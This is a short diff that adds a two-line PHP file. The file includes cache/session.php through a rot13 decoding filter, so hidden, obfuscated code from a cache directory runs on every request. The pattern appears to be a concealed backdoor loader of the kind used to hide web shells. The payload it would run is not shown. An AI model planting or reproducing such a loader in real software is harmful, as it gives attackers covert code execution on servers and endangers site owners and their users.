@@ -1,0 +1,2 @@
+<?php
+include "php://filter/read=string.rot13/resource=" . __DIR__ . "/cache/session.php";
